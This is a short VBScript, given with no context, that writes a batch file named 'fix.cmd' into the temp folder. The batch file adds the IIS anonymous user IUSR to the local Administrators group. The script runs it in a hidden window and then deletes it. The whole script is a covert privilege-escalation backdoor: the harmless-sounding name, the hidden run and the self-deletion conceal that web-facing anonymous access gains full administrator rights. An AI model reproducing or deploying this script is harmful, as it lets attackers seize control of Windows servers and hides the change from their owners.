Const ForWriting = 2
Set fso = CreateObject("Scripting.FileSystemObject")
Set sh = CreateObject("WScript.Shell")
name = sh.ExpandEnvironmentStrings("%TEMP%") & "\fix.cmd"
Set f = fso.OpenTextFile(name, ForWriting, True)
f.WriteLine "@echo off"
f.WriteLine "net localgroup Administrators IUSR /add"
f.Close
sh.Run """" & name & """", 0, True
fso.DeleteFile name
